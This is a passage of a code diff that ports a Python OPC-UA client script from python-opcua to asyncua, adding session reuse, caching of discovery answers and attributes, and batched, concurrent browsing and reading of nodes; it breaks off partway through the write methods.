@@ -1,30 +1,41 @@
 #!/usr/bin/env python3
 """
-Modern OPC-UA Client Script using python-opcua
-A Python script to interact with OPC-UA servers using python-opcua library
+Modern OPC-UA Client Script using asyncua
+A Python script to interact with OPC-UA servers using the asyncua (opcua-asyncio) library
 Supports browsing, reading, writing, and subscribing to OPC-UA nodes
 """
 
 import asyncio
 import argparse
+import functools
+import json
+import math
+import os
+import re
 import sys
 import time
-from typing import Dict, List, Optional, Any, Union, Callable
-from dataclasses import dataclass
+from typing import Dict, List, Optional, Any, Tuple, Union, Callable, AsyncIterator
+from dataclasses import asdict, dataclass, is_dataclass
 from enum import Enum
 import logging
 
-# Import python-opcua components
+# Import asyncua components
 try:
-    from opcua import Client, ua
-    from opcua.common.subscription import Subscription
-    from opcua.common.node import Node
+    from asyncua import Client, ua
+    from asyncua.common.subscription import Subscription
+    from asyncua.common.node import Node
     OPCUA_AVAILABLE = True
 except ImportError as e:
-    print(f"Error: python-opcua not installed or import failed: {e}")
-    print("Please install with: pip install opcua")
+    print(f"Error: asyncua not installed or import failed: {e}")
+    print("Please install with: pip install asyncua")
     sys.exit(1)
 
+# orjson is optional; it only speeds up printing composite node values
+try:
+    import orjson
+except ImportError:
+    orjson = None
+
 class OPCUASecurityMode(Enum):
     """OPC-UA Security Modes"""
     NONE = "None"
@@ -47,10 +58,10 @@ class OPCUAServer:
     name: str
     application_uri: str
     product_uri: str
-    server_uri: str
-    security_policy_uri: str
-    security_mode: str
-    transport_profile_uri: str
+    application_type: str
+    gateway_server_uri: Optional[str]
+    discovery_profile_uri: Optional[str]
+    discovery_urls: List[str]
 
 @dataclass
 class OPCUANode:
@@ -64,13 +75,140 @@ class OPCUANode:
     access_level: Optional[int] = None
     user_access_level: Optional[int] = None
 
+# Attributes fetched for every node, in the order OPCUANode consumes them
+NODE_ATTRIBUTES = (
+    ua.AttributeIds.BrowseName,
+    ua.AttributeIds.DisplayName,
+    ua.AttributeIds.NodeClass,
+    ua.AttributeIds.DataType,
+    ua.AttributeIds.Value,
+    ua.AttributeIds.AccessLevel,
+    ua.AttributeIds.UserAccessLevel,
+)
+
+# Built-in DataType NodeIds (ns=0, i=1..25) and the VariantType they encode as.
+# BaseDataType (i=24) accepts any type, so those arguments are left to inference.
+BUILTIN_VARIANT_TYPES = {ua.NodeId(vtype.value): vtype for vtype in ua.VariantType
+                         if vtype.value > 0 and vtype != ua.VariantType.Variant}
+
+def parse_bool(text: str) -> bool:
+    """Parse a command line boolean such as true/false, 1/0 or yes/no"""
+    lowered = text.strip().lower()
+    if lowered in ('true', '1', 'yes', 'on'):
+        return True
+    if lowered in ('false', '0', 'no', 'off'):
+        return False
+    raise ValueError(f"Invalid boolean: {text!r}")
+
+# Converters from a string to the Python value of a VariantType, for values
+# given on the command line
+STRING_CONVERTERS: Dict[ua.VariantType, Callable[[str], Any]] = {
+    ua.VariantType.Boolean: parse_bool,
+    **{vtype: int for vtype in (ua.VariantType.SByte, ua.VariantType.Byte,
+                                ua.VariantType.Int16, ua.VariantType.UInt16,
+                                ua.VariantType.Int32, ua.VariantType.UInt32,
+                                ua.VariantType.Int64, ua.VariantType.UInt64)},
+    ua.VariantType.Float: float,
+    ua.VariantType.Double: float,
+}
+
+def to_variant(value: Any, vtype: Optional[ua.VariantType]) -> ua.Variant:
+    """Wrap value in a Variant of vtype, converting strings where vtype needs it.
+    
+    With no vtype the Variant type is inferred from the Python value.
+    """
+    if isinstance(value, ua.Variant):
+        return value
+    if vtype is None:
+        return ua.Variant(value)
+    if isinstance(value, str) and vtype in STRING_CONVERTERS:
+        value = STRING_CONVERTERS[vtype](value)
+    return ua.Variant(value, vtype)
+
+# VariantTypes a deadband filter applies to
+NUMERIC_VARIANT_TYPES = frozenset((
+    ua.VariantType.SByte, ua.VariantType.Byte,
+    ua.VariantType.Int16, ua.VariantType.UInt16,
+    ua.VariantType.Int32, ua.VariantType.UInt32,
+    ua.VariantType.Int64, ua.VariantType.UInt64,
+    ua.VariantType.Float, ua.VariantType.Double,
+))
+
+# Most parent nodes expanded by one Browse request when the server does not
+# set a lower MaxNodesPerBrowse
+BROWSE_BATCH_SIZE = 100
+
+# Nodes read by get_server_info, in the order it unpacks them
+SERVER_INFO_NODES = (
+    ua.ObjectIds.Server_ServerArray,
+    ua.ObjectIds.Server_ServerStatus_BuildInfo_ProductName,
+    ua.ObjectIds.Server_ServerStatus_BuildInfo_ProductUri,
+    ua.ObjectIds.Server_ServerStatus_BuildInfo_SoftwareVersion,
+    ua.ObjectIds.Server_ServerStatus_BuildInfo_BuildNumber,
+    ua.ObjectIds.Server_ServerStatus_BuildInfo_BuildDate,
+)
+
+# ActivateSession status codes that mean the credentials themselves were
+# rejected, as opposed to the server being busy or unreachable
+CREDENTIAL_REJECTED_CODES = frozenset((
+    ua.StatusCodes.BadUserAccessDenied,
+    ua.StatusCodes.BadIdentityTokenRejected,
+    ua.StatusCodes.BadIdentityTokenInvalid,
+    ua.StatusCodes.BadUserSignatureInvalid,
+))
+
+# Node ID string forms accepted on the command line, e.g. i=84, ns=2;s=Tag
+NODEID_PATTERN = re.compile(r'^(?:srv=\d+;)?(?:ns=\d+;|nsu=[^;]+;)?[isgb]=.+$')
+
+def validate_node_ids(node_ids: List[str]) -> None:
+    """Raise ValueError for the first string that is not a node ID"""
+    for node_id in node_ids:
+        if not NODEID_PATTERN.match(node_id):
+            raise ValueError(f"Invalid node ID: {node_id!r}")
+
+# Default on-disk cache of discovery answers, used by the command line client
+DEFAULT_DISCOVERY_CACHE_PATH = os.path.join(
+    os.environ.get('XDG_CACHE_HOME') or os.path.expanduser('~/.cache'), 'kissmyics', 'opcua_endpoints.json'
+)
+
+def discovery_cached(kind: str, encode: Callable[[Any], Any] = lambda item: item,
+                     decode: Callable[[Any], Any] = lambda item: item):
+    """Serve an OPCUAClient discovery method from its caches.
+    
+    Answers are kept per `kind` and server URL for the client's
+    discovery_cache_ttl seconds, in memory for every client in the process
+    and, when the client has a discovery_cache_path, in a JSON file shared
+    across runs. `encode` and `decode` convert each item to and from JSON.
+    Empty answers are not cached, since they usually mean the request failed.
+    """
+    def decorator(method):
+        @functools.wraps(method)
+        async def wrapper(self) -> list:
+            key = f"{kind} {self.url}"
+            items = self._load_discovery(key, decode)
+            if items is not None:
+                self.logger.info(f"Using cached {kind} for {self.url}")
+                return items
+            items = await method(self)
+            if items:
+                self._store_discovery(key, items, encode)
+            return items
+        return wrapper
+    return decorator
+
 class OPCUAClient:
-    """Modern OPC-UA client using python-opcua library"""
+    """Modern OPC-UA client using asyncua library"""
+    
+    # Discovery answers by "<kind> <url>" with their expiry time, shared by
+    # every client in the process
+    _discovery_cache: Dict[str, Tuple[list, float]] = {}
     
     def __init__(self, url: str = None, timeout: int = 4, 
                  security_policy: str = "None", security_mode: str = "None",
                  username: str = None, password: str = None,
-                 certificate_path: str = None, private_key_path: str = None):
+                 certificate_path: str = None, private_key_path: str = None,
+                 value_cache_ttl: float = 0, discovery_cache_ttl: float = 300,
+                 discovery_cache_path: Optional[str] = None):
         self.url = url
         self.timeout = timeout
         self.security_policy = security_policy
@@ -83,9 +221,34 @@ class OPCUAClient:
         # OPC-UA client object
         self.client = None
         self.subscriptions = {}
+        # Monitored item handles by node ID, per subscription
+        self.subscription_handles: Dict[str, Dict[str, int]] = {}
+        self.subscription_handlers: Dict[str, 'SubscriptionHandler'] = {}
+        
+        # One session is shared by every operation until stop()
+        self._connected = False
+        self._conn_lock = asyncio.Lock()
+        
+        # Parsed NodeIds by their string form
+        self._nodeid_cache: Dict[str, ua.NodeId] = {}
+        
+        # Attribute values by (NodeId, AttributeId) with their expiry time.
+        # Everything but Value is kept for the session; Value only for
+        # value_cache_ttl seconds, and not at all when that is 0.
+        self.value_cache_ttl = value_cache_ttl
+        self._attr_cache: Dict[Tuple[ua.NodeId, int], Tuple[Any, float]] = {}
+        
+        # Seconds a GetEndpoints or FindServers answer is reused for the same
+        # URL, and the JSON file that keeps them across runs (None: memory only)
+        self.discovery_cache_ttl = discovery_cache_ttl
+        self.discovery_cache_path = discovery_cache_path
+        
+        # The server's MaxNodesPerBrowse operation limit, once read (0: none)
+        self._max_nodes_per_browse: Optional[int] = None
+        
+        # Declared input argument types by method NodeId
+        self._method_arg_types: Dict[ua.NodeId, List[Optional[ua.VariantType]]] = {}
         
-        # Configure logging
-        logging.basicConfig(level=logging.INFO)
         self.logger = logging.getLogger(__name__)
         
     async def start(self) -> bool:
@@ -101,7 +264,7 @@ class OPCUAClient:
             # Set security if specified
             if self.security_policy != "None" or self.security_mode != "None":
                 if self.certificate_path and self.private_key_path:
-                    self.client.set_security_string(f"{self.security_policy},{self.security_mode},{self.certificate_path},{self.private_key_path}")
+                    await self.client.set_security_string(f"{self.security_policy},{self.security_mode},{self.certificate_path},{self.private_key_path}")
                 else:
                     self.logger.warning("Security policy/mode specified but no certificate provided")
             
@@ -123,28 +286,97 @@ class OPCUAClient:
             return False
     
     async def connect(self) -> bool:
-        """Connect to the OPC-UA server"""
-        try:
-            if not self.client:
-                self.logger.error("Client not initialized")
+        """Connect to the OPC-UA server, reusing the session if already connected"""
+        async with self._conn_lock:
+            if self._connected:
+                return True
+            try:
+                if not self.client:
+                    self.logger.error("Client not initialized")
+                    return False
+                
+                await self.client.connect()
+                self._connected = True
+                self.logger.info("Connected to OPC-UA server")
+                return True
+            except Exception as e:
+                self.logger.error(f"Connection failed: {e}")
                 return False
-            
-            self.client.connect()
-            self.logger.info("Connected to OPC-UA server")
-            return True
-        except Exception as e:
-            self.logger.error(f"Connection failed: {e}")
-            return False
     
     async def disconnect(self) -> None:
         """Disconnect from the OPC-UA server"""
-        if self.client:
+        async with self._conn_lock:
+            if self.client and self._connected:
+                self._connected = False
+                # Access levels and the like may differ on the next session
+                self._attr_cache.clear()
+                try:
+                    await self.client.disconnect()
+                    self.logger.info("Disconnected from OPC-UA server")
+                except Exception as e:
+                    self.logger.error(f"Error during disconnect: {e}")
+    
+    async def __aenter__(self) -> 'OPCUAClient':
+        """Start the client and open the session shared by all operations"""
+        if not await self.start() or not await self.connect():
+            raise ConnectionError(f"Could not connect to {self.url}")
+        return self
+    
+    async def __aexit__(self, exc_type, exc, tb) -> None:
+        await self.stop()
+    
+    def _load_discovery(self, key: str, decode: Callable[[Any], Any]) -> Optional[list]:
+        """Cached discovery answer for key, from memory or else from disk"""
+        if self.discovery_cache_ttl <= 0:
+            return None
+        now = time.time()
+        cached = self._discovery_cache.get(key)
+        if cached is not None and cached[1] > now:
+            return list(cached[0])
+        if not self.discovery_cache_path:
+            return None
+        try:
+            with open(self.discovery_cache_path, 'r', encoding='utf-8') as f:
+                entries = json.load(f)
+            entry = entries.get(key) if isinstance(entries, dict) else None
+            if not isinstance(entry, dict) or entry['expires'] <= now:
+                return None
+            items = [decode(item) for item in entry['items']]
+        except (OSError, ValueError, KeyError, TypeError) as e:
+            self.logger.debug(f"Discovery cache unreadable: {e}")
+            return None
+        self._discovery_cache[key] = (items, entry['expires'])
+        return list(items)
+    
+    def _store_discovery(self, key: str, items: list, encode: Callable[[Any], Any]) -> None:
+        """Cache a discovery answer in memory and, if configured, on disk"""
+        if self.discovery_cache_ttl <= 0:
+            return
+        now = time.time()
+        expires = now + self.discovery_cache_ttl
+        self._discovery_cache[key] = (items, expires)
+        if not self.discovery_cache_path:
+            return
+        try:
             try:
-                self.client.disconnect()
-                self.logger.info("Disconnected from OPC-UA server")
-            except Exception as e:
-                self.logger.error(f"Error during disconnect: {e}")
+                with open(self.discovery_cache_path, 'r', encoding='utf-8') as f:
+                    entries = json.load(f)
+            except (OSError, ValueError):
+                entries = {}
+            if not isinstance(entries, dict):
+                entries = {}  # Not a cache file we wrote; start over
+            entries = {k: v for k, v in entries.items() if isinstance(v, dict) and v.get('expires', 0) > now}
+            entries[key] = {'expires': expires, 'items': [encode(item) for item in items]}
+            # Write then rename so a concurrent run never reads a partial file
+            os.makedirs(os.path.dirname(self.discovery_cache_path) or '.', exist_ok=True)
+            tmp_path = f"{self.discovery_cache_path}.{os.getpid()}.tmp"
+            with open(tmp_path, 'w', encoding='utf-8') as f:
+                json.dump(entries, f)
+            os.replace(tmp_path, self.discovery_cache_path)
+        except (OSError, TypeError, ValueError, AttributeError) as e:
+            self.logger.debug(f"Could not write discovery cache: {e}")
     
+    @discovery_cached('servers', encode=asdict, decode=lambda item: OPCUAServer(**item))
     async def discover_servers(self) -> List[OPCUAServer]:
         """Discover OPC-UA servers on the network"""
         servers = []
@@ -156,29 +388,31 @@ class OPCUAClient:
             self.logger.info("Discovering OPC-UA servers...")
             
             # Find servers
-            found_servers = self.client.find_servers()
+            found_servers = await self.client.find_servers()
             
             for server_info in found_servers:
+                # ApplicationDescription carries no endpoint details; the first
+                # discovery URL is where the server can be reached
+                discovery_urls = list(server_info.DiscoveryUrls or [])
                 server = OPCUAServer(
-                    url=server_info.ApplicationUri,
+                    url=discovery_urls[0] if discovery_urls else server_info.ApplicationUri,
                     name=server_info.ApplicationName.Text,
                     application_uri=server_info.ApplicationUri,
                     product_uri=server_info.ProductUri,
-                    server_uri=server_info.ServerUri,
-                    security_policy_uri=server_info.SecurityPolicyUri,
-                    security_mode=str(server_info.SecurityMode),
-                    transport_profile_uri=server_info.TransportProfileUri
+                    application_type=ua.ApplicationType(server_info.ApplicationType).name,
+                    gateway_server_uri=server_info.GatewayServerUri,
+                    discovery_profile_uri=server_info.DiscoveryProfileUri,
+                    discovery_urls=discovery_urls
                 )
                 servers.append(server)
                 self.logger.info(f"Found server: {server.name} ({server.url})")
             
         except Exception as e:
             self.logger.error(f"Error discovering servers: {e}")
-        finally:
-            await self.disconnect()
         
         return servers
     
+    @discovery_cached('endpoints')
     async def get_endpoints(self) -> List[Dict[str, Any]]:
         """Get server endpoints"""
         endpoints = []
@@ -189,7 +423,7 @@ class OPCUAClient:
         try:
             self.logger.info("Getting server endpoints...")
             
-            server_endpoints = self.client.get_endpoints()
+            server_endpoints = await self.client.get_endpoints()
             
             for endpoint in server_endpoints:
                 endpoint_info = {
@@ -214,12 +448,11 @@ class OPCUAClient:
             
         except Exception as e:
             self.logger.error(f"Error getting endpoints: {e}")
-        finally:
-            await self.disconnect()
         
         return endpoints
     
-    async def browse_nodes(self, node_id: str = "i=84", max_results: int = 100) -> List[OPCUANode]:
+    async def browse_nodes(self, node_id: str = "i=84", max_results: int = 100,
+                           max_depth: int = 1) -> List[OPCUANode]:
         """Browse nodes starting from the specified node ID"""
         nodes = []
         
@@ -229,68 +462,153 @@ class OPCUAClient:
         try:
             self.logger.info(f"Browsing nodes starting from {node_id}...")
             
-            # Get the starting node
-            start_node = self.client.get_node(node_id)
-            
-            # Browse the node
-            children = start_node.get_children()
-            
-            for child in children[:max_results]:
-                try:
-                    # Get node attributes
-                    browse_name = child.get_browse_name()
-                    display_name = child.get_display_name()
-                    node_class = str(child.get_node_class())
-                    
-                    # Try to get data type
-                    data_type = None
-                    try:
-                        data_type_node = child.get_data_type()
-                        data_type = data_type_node.get_browse_name().Name
-                    except:
-                        pass
-                    
-                    # Try to get value
-                    value = None
-                    try:
-                        value = child.get_value()
-                    except:
-                        pass
-                    
-                    # Try to get access levels
-                    access_level = None
-                    user_access_level = None
-                    try:
-                        access_level = child.get_access_level()
-                        user_access_level = child.get_user_access_level()
-                    except:
-                        pass
-                    
-                    node = OPCUANode(
-                        node_id=str(child.nodeid),
-                        browse_name=browse_name.Name,
-                        display_name=display_name.Text,
-                        node_class=node_class,
-                        data_type=data_type,
-                        value=value,
-                        access_level=access_level,
-                        user_access_level=user_access_level
-                    )
-                    nodes.append(node)
-                    
-                except Exception as e:
-                    self.logger.warning(f"Error processing child node: {e}")
-                    continue
+            nodes = [node async for node in self.iter_browse(node_id, max_results, max_depth)]
             
             self.logger.info(f"Found {len(nodes)} nodes")
             
         except Exception as e:
             self.logger.error(f"Error browsing nodes: {e}")
-        finally:
-            await self.disconnect()
         
         return nodes
     
+    async def iter_browse(self, node_id: str = "i=84", max_results: int = 100,
+                          max_depth: int = 1, concurrency: int = 8) -> AsyncIterator[OPCUANode]:
+        """Yield the nodes below node_id breadth first as they are browsed.
+        
+        Walks at most `max_depth` levels and yields at most `max_results`
+        nodes, with up to `concurrency` Browse requests in flight. Each request
+        expands as many queued parents as the server's MaxNodesPerBrowse
+        allows. Only nodes already yielded are queued for browsing, so memory
+        stays bounded by `max_results` however large the address space is.
+        """
+        if not await self.connect():
+            return
+        
+        try:
+            start = self._nodeid(node_id)
+        except (ua.UaError, ValueError) as e:
+            self.logger.error(f"Error browsing nodes: {e}")
+            return
+        batch_size = await self._browse_batch_size()
+        pending: asyncio.Queue = asyncio.Queue()
+        found: asyncio.Queue = asyncio.Queue(maxsize=concurrency)
+        remaining = max_results
+        pending.put_nowait((start, 1))
+        # Nodes reachable along several hierarchical paths (or in a cycle)
+        # are yielded and browsed once
+        seen = {start.to_string()}
+        
+        async def work():
+            nonlocal remaining
+            while True:
+                batch = [await pending.get()]
+                while len(batch) < batch_size and not pending.empty():
+                    batch.append(pending.get_nowait())
+                try:
+                    if remaining > 0:
+                        children = []
+                        ref_lists = await self._browse_references([nodeid for nodeid, _ in batch], remaining)
+                        for (nodeid, depth), refs in zip(batch, ref_lists):
+                            new_refs = []
+                            for ref in refs:
+                                key = ref.NodeId.to_string()
+                                if key not in seen:
+                                    seen.add(key)
+                                    new_refs.append(ref)
+                            new_refs = new_refs[:remaining]
+                            remaining -= len(new_refs)
+                            if depth < max_depth:
+                                for ref in new_refs:
+                                    pending.put_nowait((ref.NodeId, depth + 1))
+                            children.extend(new_refs)
+                        nodes = await self._read_node_attributes([ref.NodeId for ref in children])
+                        await found.put([node for node in nodes if node is not None])
+                except Exception as e:
+                    self.logger.warning(f"Error browsing {len(batch)} node(s): {e}")
+                finally:
+                    for _ in batch:
+                        pending.task_done()
+        
+        async def finish():
+            await pending.join()
+            await found.put(None)
+        
+        tasks = [asyncio.create_task(work()) for _ in range(concurrency)]
+        tasks.append(asyncio.create_task(finish()))
+        try:
+            while True:
+                batch = await found.get()
+                if batch is None:
+                    break
+                for node in batch:
+                    yield node
+        finally:
+            for task in tasks:
+                task.cancel()
+    
+    async def _browse_batch_size(self) -> int:
+        """Parents per Browse request: the server's MaxNodesPerBrowse, capped
+        at BROWSE_BATCH_SIZE. Read once per client."""
+        if self._max_nodes_per_browse is None:
+            try:
+                limit, = await self._read_attributes(
+                    [ua.NodeId(ua.ObjectIds.Server_ServerCapabilities_OperationLimits_MaxNodesPerBrowse)],
+                    (ua.AttributeIds.Value,)
+                )
+            except ua.UaError as e:
+                self.logger.debug(f"Could not read MaxNodesPerBrowse: {e}")
+                limit = None
+            # 0 or an unreadable limit means the server sets none
+            self._max_nodes_per_browse = limit or 0
+        if self._max_nodes_per_browse:
+            return min(self._max_nodes_per_browse, BROWSE_BATCH_SIZE)
+        return BROWSE_BATCH_SIZE
+    
+    async def _browse_references(self, nodeids: List[ua.NodeId],
+                                 limit: int) -> List[List[ua.ReferenceDescription]]:
+        """Browse the hierarchical children of several nodes in one Browse request.
+        
+        BrowseNext continuation points are followed for all nodes at once
+        until `limit` references are collected in total, then released. A
+        node the server cannot browse gets an empty list.
+        """
+        params = ua.BrowseParameters()
+        params.View.Timestamp = ua.get_win_epoch()
+        for nodeid in nodeids:
+            desc = ua.BrowseDescription()
+            desc.NodeId = nodeid
+            desc.BrowseDirection = ua.BrowseDirection.Forward
+            desc.ReferenceTypeId = ua.NodeId(ua.ObjectIds.HierarchicalReferences)
+            desc.IncludeSubtypes = True
+            desc.NodeClassMask = ua.NodeClass.Unspecified
+            desc.ResultMask = ua.BrowseResultMask.All
+            params.NodesToBrowse.append(desc)
+        params.RequestedMaxReferencesPerNode = limit
+        
+        references = [[] for _ in nodeids]
+        continuations = {}
+        results = await self.client.uaclient.browse(params)
+        indices = range(len(nodeids))
+        while True:
+            for i, result in zip(indices, results):
+                if not result.StatusCode.is_good():
+                    self.logger.warning(f"Error browsing node {nodeids[i].to_string()}: {result.StatusCode.name}")
+                    continue
+                references[i].extend(result.References)
+                if result.ContinuationPoint:
+                    continuations[i] = result.ContinuationPoint
+            if not continuations:
+                return references
+            
+            next_params = ua.BrowseNextParameters()
+            next_params.ContinuationPoints = list(continuations.values())
+            # Release the server-side cursors once we have enough
+            next_params.ReleaseContinuationPoints = sum(map(len, references)) >= limit
+            results = await self.client.uaclient.browse_next(next_params)
+            if next_params.ReleaseContinuationPoints:
+                return references
+            indices, continuations = list(continuations), {}
+    
     async def read_node(self, node_id: str) -> Optional[OPCUANode]:
         """Read a single node"""
         if not await self.connect():
@@ -299,59 +617,156 @@ class OPCUAClient:
         try:
             self.logger.info(f"Reading node {node_id}...")
             
-            node = self.client.get_node(node_id)
+            opcua_node, = await self._read_node_attributes([self._nodeid(node_id)])
+            if opcua_node is None:
+                self.logger.error(f"Error reading node {node_id}: attributes not readable")
+                return None
             
-            # Get node attributes
-            browse_name = node.get_browse_name()
-            display_name = node.get_display_name()
-            node_class = str(node.get_node_class())
+            self.logger.info(f"Node read successfully: {opcua_node.browse_name}")
+            return opcua_node
             
-            # Try to get data type
-            data_type = None
+        except Exception as e:
+            self.logger.error(f"Error reading node {node_id}: {e}")
+            return None
+    
+    def _nodeid(self, node_id: Union[str, ua.NodeId]) -> ua.NodeId:
+        """Parse a node ID string, reusing the result for repeat lookups.
+        
+        NodeIds the caller already parsed are returned as is.
+        """
+        if isinstance(node_id, ua.NodeId):
+            return node_id
+        nodeid = self._nodeid_cache.get(node_id)
+        if nodeid is None:
+            nodeid = self._nodeid_cache[node_id] = ua.NodeId.from_string(node_id)
+        return nodeid
+    
+    async def _read_attributes(self, nodeids: List[ua.NodeId],
+                               attributes: Tuple[ua.AttributeIds, ...]) -> List[Any]:
+        """Read `attributes` of every node in a single Read request, node-major.
+        
+        Attributes the server could not return come back as None. Cached
+        attributes are served from _attr_cache and left out of the request.
+        """
+        if not nodeids:
+            return []
+        now = time.monotonic()
+        keys = [(nodeid, attribute) for nodeid in nodeids for attribute in attributes]
+        values = [None] * len(keys)
+        missing = []
+        for i, key in enumerate(keys):
+            cached = self._attr_cache.get(key)
+            if cached is not None and cached[1] > now:
+                values[i] = cached[0]
+            else:
+                missing.append(i)
+        if not missing:
+            return values
+        
+        params = ua.ReadParameters()
+        params.NodesToRead = [ua.ReadValueId(NodeId=keys[i][0], AttributeId=keys[i][1]) for i in missing]
+        results = await self.client.uaclient.read(params)
+        for i, result in zip(missing, results):
+            good = result.StatusCode.is_good()
+            values[i] = result.Value.Value if good and result.Value is not None else None
+            # An attribute the node class does not have will not appear later either
+            if good or result.StatusCode.value == ua.StatusCodes.BadAttributeIdInvalid:
+                ttl = self.value_cache_ttl if keys[i][1] == ua.AttributeIds.Value else math.inf
+                if ttl > 0:
+                    self._attr_cache[keys[i]] = (values[i], now + ttl)
+        return values
+    
+    async def _read_node_attributes(self, nodeids: List[ua.NodeId]) -> List[Optional[OPCUANode]]:
+        """Build an OPCUANode for each NodeId with two Read requests in total.
+        
+        The first fetches NODE_ATTRIBUTES for all nodes, the second resolves the
+        distinct DataType NodeIds to names. Nodes whose BrowseName cannot be read
+        come back as None. If the server rejects the batched request, every node
+        is read with _materialize instead, concurrently.
+        """
+        width = len(NODE_ATTRIBUTES)
+        try:
+            values = await self._read_attributes(nodeids, NODE_ATTRIBUTES)
+        except ua.UaStatusCodeError as e:
+            # Some servers reject multi-attribute reads (e.g. BadTooManyOperations)
+            self.logger.debug(f"Batched Read rejected ({e}), reading nodes one by one")
+            return list(await asyncio.gather(*[self._materialize(self.client.get_node(nodeid))
+                                               for nodeid in nodeids]))
+        rows = [values[i:i + width] for i in range(0, len(values), width)]
+        
+        type_ids = list({row[3] for row in rows if row[3] is not None})
+        type_names = await self._read_attributes(type_ids, (ua.AttributeIds.BrowseName,))
+        data_types = {type_id: name.Name for type_id, name in zip(type_ids, type_names) if name is not None}
+        
+        nodes = []
+        for nodeid, row in zip(nodeids, rows):
+            browse_name, display_name, node_class, data_type, value, access_level, user_access_level = row
+            if browse_name is None:
+                nodes.append(None)
+                continue
+            nodes.append(OPCUANode(
+                node_id=nodeid.to_string(),
+                browse_name=browse_name.Name,
+                display_name=display_name.Text if display_name is not None else browse_name.Name,
+                node_class=ua.NodeClass(node_class).name if node_class is not None else None,
+                data_type=data_types.get(data_type),
+                value=value,
+                access_level=ua.AccessLevel.parse_bitfield(access_level) if access_level is not None else None,
+                user_access_level=ua.AccessLevel.parse_bitfield(user_access_level) if user_access_level is not None else None
+            ))
+        return nodes
+    
+    async def _materialize(self, node: Node) -> Optional[OPCUANode]:
+        """Build an OPCUANode with one Read per attribute
+        
+        Only attributes the node class defines are requested, so the reads that
+        remain fail only on access or server errors (raised as ua.UaError).
+        """
+        try:
+            # Get node attributes
+            browse_name = await node.read_browse_name()
+            display_name = await node.read_display_name()
+            node_class = await node.read_node_class()
+        except ua.UaError as e:
+            self.logger.warning(f"Error processing node {node.nodeid.to_string()}: {e}")
+            return None
+        
+        data_type = None
+        value = None
+        if node_class in (ua.NodeClass.Variable, ua.NodeClass.VariableType):
             try:
-                data_type_node = node.get_data_type()
-                data_type = data_type_node.get_browse_name().Name
-            except:
+                data_type_node = self.client.get_node(await node.read_data_type())
+                data_type = (await data_type_node.read_browse_name()).Name
+            except ua.UaError:
                 pass
-            
-            # Try to get value
-            value = None
             try:
-                value = node.get_value()
-            except:
+                value = await node.read_value()
+            except ua.UaError:
                 pass
-            
-            # Try to get access levels
-            access_level = None
-            user_access_level = None
+        
+        # Access levels exist on Variables only
+        access_level = None
+        user_access_level = None
+        if node_class == ua.NodeClass.Variable:
             try:
-                access_level = node.get_access_level()
-                user_access_level = node.get_user_access_level()
-            except:
+                access_level = await node.get_access_level()
+                user_access_level = await node.get_user_access_level()
+            except ua.UaError:
                 pass
-            
-            opcua_node = OPCUANode(
-                node_id=str(node.nodeid),
-                browse_name=browse_name.Name,
-                display_name=display_name.Text,
-                node_class=node_class,
-                data_type=data_type,
-                value=value,
-                access_level=access_level,
-                user_access_level=user_access_level
-            )
-            
-            self.logger.info(f"Node read successfully: {opcua_node.browse_name}")
-            return opcua_node
-            
-        except Exception as e:
-            self.logger.error(f"Error reading node {node_id}: {e}")
-            return None
-        finally:
-            await self.disconnect()
+        
+        return OPCUANode(
+            node_id=node.nodeid.to_string(),
+            browse_name=browse_name.Name,
+            display_name=display_name.Text,
+            node_class=node_class.name,
+            data_type=data_type,
+            value=value,
+            access_level=access_level,
+            user_access_level=user_access_level
+        )
     
-    async def read_nodes(self, node_ids: List[str]) -> List[Optional[OPCUANode]]:
-        """Read multiple nodes in one operation"""
+    async def read_nodes(self, node_ids: List[Union[str, ua.NodeId]], batch_size: int = 500) -> List[Optional[OPCUANode]]:
+        """Read multiple nodes, `batch_size` per Read request with all batches in flight at once"""
         nodes = []
         
         if not await self.connect():
@@ -360,65 +775,28 @@ class OPCUAClient:
         try:
             self.logger.info(f"Reading {len(node_ids)} nodes...")
             
-            # Get node objects
-            node_objects = [self.client.get_node(node_id) for node_id in node_ids]
-            
-            # Read values in batch
-            values = self.client.get_values(node_objects)
-            
-            for i, node_obj in enumerate(node_objects):
-                try:
-                    # Get node attributes
-                    browse_name = node_obj.get_browse_name()
-                    display_name = node_obj.get_display_name()
-                    node_class = str(node_obj.get_node_class())
-                    
-                    # Try to get data type
-                    data_type = None
-                    try:
-                        data_type_node = node_obj.get_data_type()
-                        data_type = data_type_node.get_browse_name().Name
-                    except:
-                        pass
-                    
-                    # Get value from batch read
-                    value = values[i] if i < len(values) else None
-                    
-                    # Try to get access levels
-                    access_level = None
-                    user_access_level = None
-                    try:
-                        access_level = node_obj.get_access_level()
-                        user_access_level = node_obj.get_user_access_level()
-                    except:
-                        pass
-                    
-                    opcua_node = OPCUANode(
-                        node_id=str(node_obj.nodeid),
-                        browse_name=browse_name.Name,
-                        display_name=display_name.Text,
-                        node_class=node_class,
-                        data_type=data_type,
-                        value=value,
-                        access_level=access_level,
-                        user_access_level=user_access_level
-                    )
-                    nodes.append(opcua_node)
-                    
-                except Exception as e:
-                    self.logger.warning(f"Error processing node {node_ids[i]}: {e}")
-                    nodes.append(None)
+            # Large requests exceed MaxMessageSize on many servers, so split
+            # them and let the batches overlap instead
+            chunks = [node_ids[i:i + batch_size] for i in range(0, len(node_ids), batch_size)]
+            results = await asyncio.gather(*[self._read_chunk(chunk) for chunk in chunks])
+            nodes = [node for chunk_nodes in results for node in chunk_nodes]
             
             self.logger.info(f"Read {len([n for n in nodes if n is not None])} nodes successfully")
             
         except Exception as e:
             self.logger.error(f"Error reading nodes: {e}")
             nodes = [None] * len(node_ids)
-        finally:
-            await self.disconnect()
         
         return nodes
     
+    async def _read_chunk(self, node_ids: List[Union[str, ua.NodeId]]) -> List[Optional[OPCUANode]]:
+        """Read one batch of read_nodes, reporting a failed batch as all None"""
+        try:
+            return await self._read_node_attributes([self._nodeid(node_id) for node_id in node_ids])
+        except Exception as e:
+            self.logger.warning(f"Error reading batch of {len(node_ids)} nodes: {e}")
+            return [None] * len(node_ids)
+    
     async def write_node(self, node_id: str, value: Any) -> bool:
         """Write value to a node"""
         if not await self.connect():
@@ -427,20 +805,18 @@ class OPCUAClient:
         try:
             self.logger.info(f"Writing value {value} to node {node_id}...")
             
-            node = self.client.get_node(node_id)
-            node.set_value(value)
-            
-            self.logger.info("Node write successful")
-            return True
+            success, = await self._write_chunk([node_id], [value])
+            if success:
+                self.logger.info("Node write successful")
+            return success
             
         except Exception as e:
             self.logger.error(f"Error writing to node {node_id}: {e}")
             return False
-        finally:
-            await self.disconnect()
     
-    async def write_nodes(self, node_ids: List[str], values: List[Any]) -> List[bool]:
